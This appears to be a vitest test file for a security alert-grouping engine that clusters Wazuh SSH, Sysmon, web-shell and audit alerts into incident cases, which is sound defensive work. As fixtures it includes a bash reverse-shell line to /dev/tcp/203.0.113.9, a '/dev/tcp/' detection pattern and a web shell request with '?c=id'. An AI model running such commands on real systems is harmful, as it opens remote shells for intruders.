import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { type AlertParts, sysmonProcess, wazuhAlert, windowsEvent } from '../../test/support/wazuh-alert.ts'
import type { Alert } from '../domain/alert.ts'
import { countingIds } from '../lib/ids.ts'
import { GroupingEngine } from './grouping-engine.ts'
import { defaultGrouping, type GroupingOptions } from './grouping-options.ts'

const start = 1_770_000_000_000
const minute = 60_000
let serial = 0

function alert(parts: Partial<AlertParts> & { readonly minutes?: number }): Alert {
  return wazuhAlert({
    rule: ['5710', 5, 'sshd: Attempt to login using a non-existent user', ['sshd']],
    ...parts,
    id: `1.${++serial}`,
    atMs: start + (parts.minutes ?? 0) * minute,
  })
}

const engine = (options: Partial<GroupingOptions> = {}) =>
  new GroupingEngine({ ...defaultGrouping, ...options }, countingIds())

/** The alerts' cases as letters: `aab`. */
function grouped(
  alerts: readonly Alert[],
  options: Partial<GroupingOptions> = {},
  graveActOf?: (alert: Alert) => string,
): string {
  const names = new Map<string, string>()
  return engine(options)
    .assign(alerts, graveActOf)
    .assignments.map(({ caseId }) => {
      const name = names.get(caseId) ?? String.fromCharCode(97 + names.size)
      names.set(caseId, name)
      return name
    })
    .join('')
}

const from = (srcip: string, minutes: number, extra: Partial<AlertParts> = {}) =>
  alert({ ...extra, minutes, data: { srcip } })
const powershell = 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'
const execution = { techniques: ['T1059.001'], tactics: ['Execution'] }
const process = (
  id: string,
  minutes: number,
  fields: { [name: string]: string },
  extra: Partial<AlertParts> = {},
) =>
  alert({
    minutes,
    rule: [id, 4, `rule ${id}`, ['sysmon_eid1_detections']],
    data: sysmonProcess({ image: powershell, ...fields }),
    ...execution,
    ...extra,
  })

describe('alerts of one kind', () => {
  it('are one case while they keep coming', () =>
    expect(grouped([from('203.0.113.9', 0), from('203.0.113.9', 50), from('203.0.113.9', 100)])).toBe('aaa'))
  it('are two cases after a pause', () =>
    expect(grouped([from('203.0.113.9', 0), from('203.0.113.9', 61)])).toBe('ab'))
  it('are two cases from two sources', () =>
    expect(grouped([from('203.0.113.9', 0), from('203.0.113.10', 1)])).toBe('ab'))
  it('are two cases on two hosts', () =>
    expect(grouped([from('203.0.113.9', 0), from('203.0.113.9', 1, { host: 'web-02' })])).toBe('ab'))
  it('that never stop become one case a day', () => {
    const day = Array.from({ length: 60 }, (_, index) => from('203.0.113.9', index * 30))
    expect(new Set(grouped(day)).size).toBe(2)
  })
})

describe('alerts of different rules', () => {
  const user = 'CORP\\ann'
  it('are linked by account, host and ATT&CK progress, and say so', () => {
    const second = process('92032', 5, { user }, { techniques: ['T1087'], tactics: ['Discovery'] })
    const { assignments, cases } = engine().assign([process('92027', 0, { user }), second])
    expect(assignments[1]).toMatchObject({ kind: 'linked', caseId: assignments[0]?.caseId })
    expect(assignments[1]?.why).toBe(
      'shares the host web-01, the user ann, a further ATT&CK tactic (Discovery) with this case',
    )
    expect(cases).toHaveLength(1)
    expect(cases[0]).toMatchObject({ alertCount: 2, revision: 2, tactics: ['Execution', 'Discovery'] })
  })
  it('are linked by the process that both name', () => {
    const parent = process('92027', 0, { processGuid: '{00000001-aaaa}', user: 'NT AUTHORITY\\SYSTEM' })
    const child = process('92052', 5, { parentProcessGuid: '{00000001-aaaa}', user: 'NT AUTHORITY\\SYSTEM' })
    expect(grouped([parent, child])).toBe('aa')
  })
  it('are not linked by the host alone', () => {
    expect(grouped([process('92027', 0, {}), process('92052', 1, {})])).toBe('ab')
  })
  it('are not linked by SYSTEM', () => {
    const system = { user: 'NT AUTHORITY\\SYSTEM' }
    expect(grouped([process('92027', 0, system), process('92052', 1, system)])).toBe('ab')
  })
  it('are not linked by the hash of a program of the system', () => {
    const hashes = { hashes: 'SHA256='.padEnd(71, '1') }
    expect(grouped([process('92027', 0, hashes), process('92052', 1, hashes, { host: 'web-02' })])).toBe('ab')
  })
  it('are linked over hosts by the hash of an unusual program', () => {
    const unusual = { image: 'C:\\Users\\Public\\x.exe', hashes: 'SHA256='.padEnd(71, '1') }
    expect(grouped([process('92027', 0, unusual), process('92052', 1, unusual, { host: 'web-02' })])).toBe(
      'aa',
    )
  })
  it('are linked by a file that one wrote and the other started', () => {
    const service = alert({
      rule: ['92650', 12, 'New service', ['windows']],
      data: windowsEvent('7045', 'System', { imagePath: '%SystemRoot%\\PSEXESVC.exe' }),
      techniques: ['T1569.002'],
      tactics: ['Execution'],
    })
    expect(grouped([service, process('92052', 1, { parentImage: 'C:\\Windows\\PSEXESVC.exe' })])).toBe('aa')
  })
})

describe('a web shell', () => {
  const options = { speaksOfAttack: () => false }
  const request = (url: string, minutes: number, protocol = 'GET', srcip = '203.0.113.9', rule = '31108') =>
    alert({
      minutes,
      rule: [rule, 3, 'request', ['web', 'accesslog']],
      data: { url, protocol, srcip, id: '200' },
    })
  const newScript = (path: string, minutes: number) =>
    alert({
      minutes,
      rule: ['554', 5, 'File added to the system.', ['syscheck']],
      syscheck: { path, event: 'added', mode: 'realtime' },
    })
  const shell = '/var/www/html/uploads/x.php'

  it('is one case from the upload to the request that uses it, and says why', () => {
    const { assignments, cases } = engine(options).assign([
      request('/async-upload.php', 0, 'POST'),
      newScript(shell, 0.1),
      request('/uploads/x.php?c=id', 30, 'GET', '198.51.100.7', '31106'),
    ])
    expect(cases).toHaveLength(1)
    expect(assignments[1]?.why).toContain('an upload and a new script within minutes')
    expect(assignments[2]?.why).toContain('the new script that it asks for')
  })
  it('is found also where the log of the request comes after the file', () =>
    expect(grouped([newScript(shell, 0), request('/upload.php', 0.5, 'POST')], options)).toBe('aa'))
  it('below IIS', () => {
    const written = alert({
      rule: ['92204', 6, 'Script written', ['sysmon']],
      data: windowsEvent('11', 'Microsoft-Windows-Sysmon/Operational', {
        targetFilename: 'C:\\inetpub\\wwwroot\\up\\s.aspx',
      }),
    })
    expect(grouped([written, request('/UP/s.aspx', 5)], options)).toBe('aa')
  })
  it('is no upload hours before, no other script, and no script of another host or that is refused', () => {
    expect(grouped([request('/upload.php', 0, 'POST'), newScript(shell, 30)], options)).toBe('ab')
    expect(grouped([newScript(shell, 0), request('/admin/x.php', 5)], options)).toBe('ab')
    expect(grouped([newScript('/var/www/html/admin/index.php', 0), request('/index.php', 5)], options)).toBe(
      'ab',
    )
    expect(grouped([request('/search.php', 0, 'POST'), newScript(shell, 0.1)], options)).toBe('ab')
    const elsewhere = alert({
      host: 'web-02',
      rule: ['554', 5, 'r', []],
      syscheck: { path: shell, event: 'added' },
    })
    expect(grouped([elsewhere, request('/uploads/x.php', 5)], options)).toBe('ab')
  })
  it('does not pull the visitors of a page together that was changed', () => {
    const visits = [1, 2, 3].map(each => request(`/page${each}.php`, each, 'GET', `203.0.113.${each}`))
    expect(grouped(visits, options)).toBe('abc')
  })
})

describe('what an attacker cannot glue together', () => {
  const attack = { speaksOfAttack: () => true }
  it('guessing from two places at one host', () =>
    expect(
      grouped([from('203.0.113.9', 0), from('203.0.113.10', 1, { rule: ['5712', 10, 'r', []] })], attack),
    ).toBe('ab'))
  it('an act on the host belongs to what came in, and further acts to it, whoever knocks in between', () => {
    const act = (minutes: number, rule: string) => alert({ minutes, rule: [rule, 10, 'act', []] })
    const knock = from('198.51.100.1', 2, { rule: ['31103', 7, 'knock', []] })
    expect(grouped([from('203.0.113.9', 0), act(1, '100'), knock, act(3, '101')], attack)).toBe('aaba')
  })
  it('what one sensor reports of two pairs of hosts', () => {
    const seen = (src_ip: string, dest_ip: string, signature: string) =>
      alert({
        host: 'sensor',
        rule: ['86601', 3, 'Suricata', ['ids']],
        data: { src_ip, dest_ip, alert: { signature } },
      })
    expect(
      grouped([seen('10.0.0.1', '203.0.113.1', 'a'), seen('10.0.0.2', '203.0.113.2', 'b')], attack),
    ).toBe('ab')
  })
  it('what the manager fetched from two services', () => {
    const fetched = (location: string, rule: string) => {
      const made = alert({ host: 'manager', rule: [rule, 7, 'r', []], location })
      return { ...made, agent: { ...made.agent, id: '000' } }
    }
    expect(grouped([fetched('github', '1'), fetched('Wazuh-AWS', '2')], attack)).toBe('ab')
  })
  it('one grave command and the hundred harmless ones around it', () => {
    const run = (command: string, minutes: number) =>
      alert({
        minutes,
        rule: ['80792', 3, 'Audit: Command', ['audit']],
        data: { audit: { uid: '33' }, command },
      })
    const graveActOf = ({ document }: Alert) =>
      JSON.stringify(document).includes('/dev/tcp/') ? 'reverse-shell' : ''
    const stream = [run('ls', 0), run('ls', 1), run('bash -i >& /dev/tcp/203.0.113.9/1', 2), run('ls', 3)]
    expect(grouped(stream, {}, graveActOf)).toBe('aaba')
  })
  it('audited commands of two accounts', () => {
    const run = (uid: string, auid: string) =>
      alert({ rule: ['80792', 3, 'Audit: Command', ['audit']], data: { audit: { uid, auid } } })
    expect(
      grouped([run('33', '4294967295'), run('0', '1001'), run('33', '4294967295'), run('1001', '1001')]),
    ).toBe('abab')
  })
  it('the logons of everybody on the host itself, or behind one jump host', () => {
    const logon = (rule: string, group: string, srcip: string, dstuser: string, minutes: number) =>
      alert({ minutes, rule: [rule, 5, 'r', ['sshd', group]], data: { srcip, dstuser } })
    const failed = 'authentication_failed'
    const entered = 'authentication_success'
    expect(
      grouped([logon('1', failed, '127.0.0.1', 'ann', 0), logon('2', entered, '127.0.0.1', 'bob', 1)]),
    ).toBe('ab')
    expect(
      grouped([logon('1', failed, '10.0.0.5', 'ann', 0), logon('2', entered, '10.0.0.5', 'bob', 1)]),
    ).toBe('ab')
    expect(
      grouped([logon('1', failed, '10.0.0.5', 'ann', 0), logon('2', entered, '10.0.0.5', 'ann', 1)]),
    ).toBe('aa')
    const guesses = ['a', 'b', 'c'].map((user, index) => logon('1', failed, '10.0.0.5', user, index))
    expect(grouped([...guesses, logon('2', entered, '10.0.0.5', 'bob', 4)])).toBe('aaaa')
  })
})

describe('a hub', () => {
  it('does not pull the estate into one case', () => {
    const scanner = '203.0.113.99'
    const hosts = Array.from({ length: 40 }, (_, index) =>
      from(scanner, index / 10, {
        host: `host-${index}`,
        rule: [`${5000 + index}`, 5, 'r', []],
        techniques: ['T1110'],
        tactics: ['Credential Access'],
      }),
    )
    const sizes = Map.groupBy(grouped(hosts), name => name)
    expect(Math.max(...[...sizes.values()].map(members => members.length))).toBeLessThanOrEqual(
      defaultGrouping.hubHosts + 1,
    )
  })
})

describe('memory and restarts', () => {
  it('holds no more cases than allowed, and none that cannot grow', () => {
    const grouping = engine({ maxOpenCases: 100 })
    for (let index = 0; index < 500; index++)
      grouping.assign([from(`198.51.100.${index % 250}`, index / 100, { host: `h${index}` })])
    expect(grouping.openCases).toBeLessThanOrEqual(100)
    grouping.assign([from('203.0.113.1', 600)])
    expect(grouping.openCases).toBe(1)
  })
  it('goes on where it stopped, after a restart', () => {
    const first = engine()
    const { cases } = first.assign([from('203.0.113.9', 0)])
    const second = engine()
    second.restore(JSON.parse(JSON.stringify(cases)))
    const { assignments, cases: after } = second.assign([from('203.0.113.9', 5)])
    expect(assignments[0]).toMatchObject({ caseId: cases[0]?.id, kind: 'same-kind' })
    expect(after[0]).toMatchObject({ alertCount: 2, revision: 2, firstSeenMs: start })
  })
  it('leaves cases alone that a person closed', () => {
    const grouping = engine()
    const { assignments } = grouping.assign([from('203.0.113.9', 0)])
    grouping.forget(assignments[0]?.caseId ?? '')
    expect(grouping.assign([from('203.0.113.9', 1)]).assignments[0]?.kind).toBe('opened')
  })
})

describe('any stream of alerts', () => {
  const anyAlert = fc.record({
    minutes: fc.integer({ min: -60, max: 2000 }),
    host: fc.constantFrom('a', 'b', '__proto__'),
    rule: fc.constantFrom('1', '2', '3'),
    user: fc.constantFrom('ann', 'SYSTEM', 'constructor', ''),
    tactic: fc.constantFrom('Execution', 'Discovery'),
  })
  it('is put into cases exactly once each, and cases count right', () => {
    fc.assert(
      fc.property(fc.array(anyAlert, { maxLength: 40 }), rows => {
        const alerts = rows.map(({ minutes, host, rule, user, tactic }) =>
          alert({
            minutes,
            host,
            rule: [rule, 5, 'r', []],
            data: { srcuser: user },
            techniques: ['T1059'],
            tactics: [tactic],
          }),
        )
        const together = engine().assign(alerts)
        expect(together.assignments.map(({ alertKey }) => alertKey)).toEqual(alerts.map(({ key }) => key))
        const counted = Map.groupBy(together.assignments, ({ caseId }) => caseId)
        for (const draft of together.cases) expect(counted.get(draft.id)?.length).toBe(draft.alertCount)
        for (const draft of together.cases)
          expect(draft.lastSeenMs - draft.firstSeenMs).toBeLessThanOrEqual(defaultGrouping.maxSpanMs)
      }),
      { numRuns: 200, seed: 3 },
    )
  })
  it('a case keeps so much text of its entities, whatever alerts name, and after a restart no more', () => {
    const long = (name: string) => `${name}${'x'.repeat(1900)}`
    const grouping = engine()
    const alerts = Array.from({ length: 30 }, (_, index) =>
      alert({
        minutes: index,
        rule: ['5710', 5, 'd'.repeat(30_000), ['sshd']],
        data: {
          srcip: '203.0.113.9',
          dstuser: long(`u${index}`),
          url: long(`/${index}`),
          system_name: `web-${index}`,
        },
      }),
    )
    const [draft] = grouping.assign(alerts).cases
    if (draft === undefined) throw new Error('no case')
    const lengthOf = (entities: typeof draft.entities) =>
      entities.reduce((sum, { value }) => sum + value.length, 0)
    expect(lengthOf(draft.entities)).toBeLessThan(8000)
    // Short names still find their place behind long ones.
    expect(draft.entities.map(({ value }) => value)).toContain('web-29')
    const restored = engine()
    restored.restore([draft])
    const [grown] = restored.assign([
      alert({ minutes: 31, data: { srcip: '203.0.113.9', url: long('/z') } }),
    ]).cases
    expect(grown?.id).toBe(draft.id)
    expect(lengthOf(grown?.entities ?? [])).toBeLessThan(8000)
  })
})
